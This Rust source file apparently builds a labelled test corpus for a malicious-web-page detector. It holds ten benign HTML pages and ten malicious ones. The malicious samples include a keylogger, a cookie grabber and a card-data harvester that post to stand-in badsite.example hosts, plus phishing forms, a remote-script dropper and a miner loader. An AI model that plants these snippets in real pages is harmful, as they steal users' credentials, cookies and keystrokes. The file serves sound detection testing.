//! The planted 20-page evaluation corpus: ten benign pages and ten malicious
//! ones, each malicious page carrying one recognizable attack pattern.
//!
//! The pages are defined here and written to disk by [`write_corpus`];
//! [`verify_corpus`] checks a directory against these definitions.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use serde_json::json;

use crate::evidence::Label;

pub const CORPUS_FILE: &str = "corpus.json";
pub const FETCHED_AT: u64 = 1_718_000_000;

#[derive(Debug, Clone, Copy)]
pub struct SyntheticPage {
    pub name: &'static str,
    pub url: &'static str,
    pub label: Label,
    pub threat_type: Option<&'static str>,
    /// What was planted, for humans reading the corpus.
    pub planted: &'static str,
    pub html: &'static str,
}

macro_rules! page {
    ($name:literal, $url:literal, $label:ident, $threat:expr, $planted:literal, $html:literal) => {
        SyntheticPage { name: $name, url: $url, label: Label::$label, threat_type: $threat, planted: $planted, html: $html }
    };
}

pub const PAGES: [SyntheticPage; 20] = [
    page!("benign-blog", "https://blog.example.org/posts/tidy-gardens", Benign, None, "static article, same-origin comment count fetch",
r#"<!doctype html>
<html><head><title>Tidy gardens in small spaces</title>
<meta name="description" content="Notes on container gardening"></head>
<body>
<header><h1>Tidy gardens in small spaces</h1></header>
<article><p>Container gardens reward a little planning. Pick pots with drainage and group plants by how much water they like.</p>
<p>Herbs such as basil and thyme are forgiving first choices.</p></article>
<p id="comments">Comments: loading</p>
<script>
fetch("/api/comments/count?post=tidy-gardens").then(function (r) { return r.json(); }).then(function (d) {
  document.getElementById("comments").textContent = "Comments: " + (d.count || 0);
}).catch(function () {});
</script>
</body></html>
"#),
    page!("benign-docs", "https://docs.example.org/guide/install", Benign, None, "documentation page with a table-of-contents toggle",
r#"<!doctype html>
<html><head><title>Installation guide</title></head>
<body>
<nav><button id="toc-toggle">Contents</button><ul id="toc"><li>Requirements</li><li>Building</li></ul></nav>
<main><h1>Installation</h1><p>Download the archive, unpack it and run the installer from a terminal.</p>
<pre>tar xf tool.tar.gz</pre></main>
<script>
(function () {
  var button = document.getElementById("toc-toggle");
  var list = document.getElementById("toc");
  button.addEventListener("click", function () {
    list.classList.toggle("open");
  });
})();
</script>
</body></html>
"#),
    page!("benign-shop", "https://shop.example.com/catalog/lamps", Benign, None, "product grid rendered from an inline list",
r#"<!doctype html>
<html><head><title>Lamps - Example Shop</title><meta property="og:site_name" content="Example Shop"></head>
<body>
<h1>Lamps</h1>
<div id="grid"></div>
<form action="/search" method="get"><input type="text" name="q" placeholder="Search lamps"><button>Search</button></form>
<script>
(function () {
  var items = [{ name: "Desk lamp", price: 25 }, { name: "Floor lamp", price: 80 }, { name: "Reading lamp", price: 32 }];
  var grid = document.getElementById("grid");
  items.forEach(function (item) {
    var card = document.createElement("div");
    card.className = "card";
    card.textContent = item.name + " - $" + item.price;
    grid.appendChild(card);
  });
})();
</script>
</body></html>
"#),
    page!("benign-members", "https://club.example.net/members", Benign, None, "same-origin sign-in form posting to its own host",
r#"<!doctype html>
<html><head><title>Chess club members area</title></head>
<body>
<h1>Members area</h1>
<p>Club members can reserve boards and see tournament pairings.</p>
<form action="/session" method="post">
  <label>Email <input type="email" name="email"></label>
  <label>Password <input type="password" name="pw"></label>
  <button>Enter</button>
</form>
</body></html>
"#),
    page!("benign-news", "https://news.example.org/world", Benign, None, "headline carousel driven by function timers",
r#"<!doctype html>
<html><head><title>World news</title></head>
<body>
<h1>World</h1>
<div id="headline">Markets open steady</div>
<script>
(function () {
  var lines = ["Markets open steady", "Rain expected in the north", "Museum reopens after repairs"];
  var i = 0;
  setInterval(function () {
    i = (i + 1) % lines.length;
    document.getElementById("headline").textContent = lines[i];
  }, 1000);
})();
</script>
</body></html>
"#),
    page!("benign-weather", "https://weather.example.com/city/lisbon", Benign, None, "same-origin JSON forecast fetch",
r#"<!doctype html>
<html><head><title>Lisbon forecast</title></head>
<body>
<h1>Lisbon</h1>
<p id="forecast">Fetching forecast</p>
<script>
(function () {
  function show(text) { document.getElementById("forecast").textContent = text; }
  fetch("/api/forecast?city=lisbon", { method: "GET" })
    .then(function (r) { return r.json(); })
    .then(function (d) { show(d.summary || "No data"); }, function () { show("Forecast unavailable"); });
})();
</script>
</body></html>
"#),
    page!("benign-portfolio", "https://ana.example.dev/", Benign, None, "personal site loading a charting library from a CDN",
r#"<!doctype html>
<html><head><title>Ana - projects</title></head>
<body>
<h1>Projects</h1>
<p>Small tools for plotting sensor data.</p>
<div id="chart"></div>
<script>
(function () {
  var s = document.createElement("script");
  s.src = "https://cdn.example.net/charts/chart.min.js";
  s.async = true;
  document.head.appendChild(s);
})();
</script>
</body></html>
"#),
    page!("benign-recipes", "http://recipes.example.org/soup/lentil", Benign, None, "plain-HTTP recipe page with a serving calculator",
r#"<!doctype html>
<html><head><title>Lentil soup</title></head>
<body>
<h1>Lentil soup</h1>
<p>Serves <span id="serves">4</span>.</p>
<button id="more">More servings</button>
<script>
(function () {
  var serves = 4;
  document.getElementById("more").addEventListener("click", function () {
    serves += 1;
    document.getElementById("serves").textContent = String(serves);
  });
})();
</script>
</body></html>
"#),
    page!("benign-forum", "https://forum.example.org/t/sourdough-starters", Benign, None, "forum thread with a reply box and a theme preference",
r#"<!doctype html>
<html><head><title>Sourdough starters - Forum</title></head>
<body>
<h1>Sourdough starters</h1>
<div class="post">Feed it twice a day and keep it warm.</div>
<form action="/t/sourdough-starters/reply" method="post"><textarea name="body"></textarea><button>Reply</button></form>
<script>
(function () {
  var theme = window.localStorage.getItem("theme") || "light";
  document.body.setAttribute("data-theme", theme);
})();
</script>
</body></html>
"#),
    page!("benign-status", "https://status.example.com/", Benign, None, "status page polling its own API",
r#"<!doctype html>
<html><head><title>Service status</title></head>
<body>
<h1>All systems operational</h1>
<ul id="components"><li>API</li><li>Dashboard</li></ul>
<script>
(function () {
  var xhr = new XMLHttpRequest();
  xhr.open("GET", "/api/status.json");
  xhr.onload = function () {};
  xhr.send();
})();
</script>
</body></html>
"#),
    page!("mal-keylogger", "https://typing-tutor.example.com/practice", Malicious, Some("malware"), "keystroke buffer global, keydown listener, POST to a third-party collector",
r#"<!doctype html>
<html><head><title>Typing practice</title></head>
<body>
<h1>Typing practice</h1>
<textarea id="pad"></textarea>
<script>
var keystrokeBuffer = [];
document.addEventListener("keydown", function (e) {
  keystrokeBuffer.push(e.key);
});
setTimeout(function () {
  fetch("https://collect.badsite.example/k", { method: "POST", body: JSON.stringify(keystrokeBuffer) });
}, 500);
</script>
</body></html>
"#),
    page!("mal-credential-form", "https://docs-share.example.net/view", Malicious, Some("phishing"), "sign-in form posting credentials to another domain",
r#"<!doctype html>
<html><head><title>Shared document</title></head>
<body>
<h1>A document has been shared with you</h1>
<p>Sign in with your email password to view the file.</p>
<form action="https://grab.badsite.example/collect.php" method="post">
  <input type="email" name="email" placeholder="Email">
  <input type="password" name="password" placeholder="Password">
  <button>View document</button>
</form>
</body></html>
"#),
    page!("mal-brand-impersonation", "https://help-center.example.info/restore", Malicious, Some("phishing"), "PayPal branding on an unrelated domain with a password prompt",
r#"<!doctype html>
<html><head><title>Restore access</title>
<meta property="og:site_name" content="PayPal">
<meta name="application-name" content="PayPal"></head>
<body>
<h1>Restore access</h1>
<p>We noticed unusual activity. Enter your password to restore access.</p>
<form action="/restore/step2" method="post">
  <input type="email" name="email">
  <input type="password" name="password">
  <button>Continue</button>
</form>
</body></html>
"#),
    page!("mal-hidden-exfil", "https://free-wallpapers.example.com/", Malicious, Some("malware"), "automation check, hidden iframe, string timer, POST of page data to a third party",
r#"<!doctype html>
<html><head><title>Free wallpapers</title></head>
<body>
<h1>Free wallpapers</h1>
<script>
(function () {
  if (navigator.webdriver) { return; }
  var f = document.createElement("iframe");
  f.src = "https://track.badsite.example/frame";
  f.width = "0";
  f.height = "0";
  f.style.display = "none";
  document.body.appendChild(f);
  setTimeout("window.__sent = 1", 200);
  fetch("https://track.badsite.example/up", { method: "POST", body: document.title });
})();
</script>
</body></html>
"#),
    page!("mal-dropper", "https://cdn-fonts.example.org/loader", Malicious, Some("malware"), "base64 payload injected as a script, eval, string timer, remote script, automation check, install beacon",
r#"<!doctype html>
<html><head><title>Loading</title></head>
<body>
<p>Loading fonts</p>
<script>
(function () {
  if (navigator.webdriver) { return; }
  var s = document.createElement("script");
  s.text = atob("d2luZG93Ll9fc3RhZ2UgPSAxOw==");
  document.body.appendChild(s);
  eval("window.__stage2 = 2");
  setTimeout("window.__stage3 = 3", 100);
  var r = document.createElement("script");
  r.src = "https://payload.badsite.example/stage.js";
  document.head.appendChild(r);
  fetch("https://payload.badsite.example/installed", { method: "POST", body: "ok" });
})();
</script>
</body></html>
"#),
    page!("mal-fake-login", "https://secure-login-microsoft.com.verify-account.xyz/login", Malicious, Some("phishing"), "deceptive host with a hidden field block and a password prompt",
r#"<!doctype html>
<html><head><title>Sign in to your account</title></head>
<body>
<h1>Sign in</h1>
<form action="/login/next" method="post">
  <input type="email" name="loginfmt">
  <input type="password" name="passwd">
  <div style="display:none"><input type="text" name="ctx" value="a1"></div>
  <button>Next</button>
</form>
</body></html>
"#),
    page!("mal-session-hijack", "https://coupons.example.biz/today", Malicious, Some("malware"), "session token grabber global sending cookies off-site",
r#"<!doctype html>
<html><head><title>Today's coupons</title></head>
<body>
<h1>Coupons</h1>
<script>
var sessionTokenGrabber = function () {
  var c = document.cookie;
  fetch("https://steal.badsite.example/s", { method: "POST", body: c });
};
sessionTokenGrabber();
</script>
</body></html>
"#),
    page!("mal-form-harvester", "https://survey.example.co/win", Malicious, Some("malware"), "form data harvester global posting entries to a third party",
r#"<!doctype html>
<html><head><title>Win a prize</title></head>
<body>
<h1>Answer three questions to win</h1>
<form id="f"><input type="text" id="name" name="name"><input type="text" id="card" name="card"><button>Submit</button></form>
<script>
var harvestFormData = function () {
  var data = "name=" + document.getElementById("name").value + "&card=" + document.getElementById("card").value;
  var xhr = new XMLHttpRequest();
  xhr.open("POST", "https://drop.badsite.example/h");
  xhr.send(data);
};
setTimeout(harvestFormData, 300);
</script>
</body></html>
"#),
    page!("mal-injected-login", "https://video-player.example.com/watch", Malicious, Some("phishing"), "script-built password overlay, geolocation probe, third-party socket and POST",
r#"<!doctype html>
<html><head><title>Watch now</title></head>
<body>
<div id="player">Video</div>
<script>
(function () {
  var box = document.createElement("div");
  var pw = document.createElement("input");
  pw.type = "password";
  pw.name = "pw";
  box.appendChild(pw);
  document.body.appendChild(box);
  navigator.geolocation.getCurrentPosition(function () {}, function () {});
  var ws = new WebSocket("wss://c2.badsite.example/live");
  fetch("https://c2.badsite.example/reg", { method: "POST", body: "v=1" });
})();
</script>
</body></html>
"#),
    page!("mal-miner", "http://203.0.113.77/stream", Malicious, Some("malware"), "raw-IP host, remote script, socket, eval of decoded code, string timer, automation check",
r#"<!doctype html>
<html><head><title>Stream</title></head>
<body>
<p>Buffering</p>
<script>
(function () {
  if (navigator.webdriver) { return; }
  var s = document.createElement("script");
  s.src = "https://miner.badsite.example/w.js";
  document.head.appendChild(s);
  var ws = new WebSocket("wss://pool.badsite.example/");
  var inj = document.createElement("script");
  inj.text = atob("d2luZG93Ll9faGFzaCA9IDA7");
  document.body.appendChild(inj);
  eval("window.__rate = 4");
  setTimeout("window.__tick = 1", 50);
})();
</script>
</body></html>
"#),
];

fn manifest_json(p: &SyntheticPage) -> String {
    let tls = p.url.starts_with("https://");
    serde_json::to_string_pretty(&json!({ "url": p.url, "fetched_at": FETCHED_AT, "tls": tls, "scripts": [] })).expect("manifest serializes") + "\n"
}

pub fn corpus_json() -> String {
    let entries: Vec<_> = PAGES
        .iter()
        .map(|p| {
            let mut e = json!({ "snapshot_dir": p.name, "label": p.label.as_str() });
            if let Some(t) = p.threat_type {
                e["threat_type"] = t.into();
            }
            e
        })
        .collect();
    serde_json::to_string_pretty(&json!({ "entries": entries })).expect("corpus serializes") + "\n"
}

/// Relative path to file contents for the whole corpus.
pub fn expected_files() -> BTreeMap<PathBuf, String> {
    let mut out = BTreeMap::new();
    out.insert(PathBuf::from(CORPUS_FILE), corpus_json());
    for p in &PAGES {
        out.insert(Path::new(p.name).join("manifest.json"), manifest_json(p));
        out.insert(Path::new(p.name).join("page.html"), p.html.to_string());
    }
    out
}

pub fn write_corpus(dir: &Path) -> std::io::Result<PathBuf> {
    for (rel, body) in expected_files() {
        let path = dir.join(rel);
        if let Some(parent) = path.parent() {
            std::fs::create_dir_all(parent)?;
        }
        std::fs::write(path, body)?;
    }
    Ok(dir.join(CORPUS_FILE))
}

/// Files that are missing or differ from the definitions.
pub fn verify_corpus(dir: &Path) -> Vec<String> {
    expected_files()
        .into_iter()
        .filter_map(|(rel, body)| match std::fs::read_to_string(dir.join(&rel)) {
            Ok(actual) if actual == body => None,
            Ok(_) => Some(format!("{} differs", rel.display())),
            Err(e) => Some(format!("{}: {e}", rel.display())),
        })
        .collect()
}

pub fn planted_labels() -> Vec<(&'static str, Label)> {
    PAGES.iter().map(|p| (p.name, p.label)).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn ten_and_ten() {
        assert_eq!(PAGES.iter().filter(|p| p.label == Label::Malicious).count(), 10);
        let mut names: Vec<_> = PAGES.iter().map(|p| p.name).collect();
        names.sort();
        names.dedup();
        assert_eq!(names.len(), 20);
    }

    #[test]
    fn roundtrip_verifies() {
        let dir = tempfile::tempdir().unwrap();
        write_corpus(dir.path()).unwrap();
        assert!(verify_corpus(dir.path()).is_empty());
        std::fs::write(dir.path().join("benign-blog/page.html"), "x").unwrap();
        assert_eq!(verify_corpus(dir.path()), ["benign-blog/page.html differs"]);
    }
}
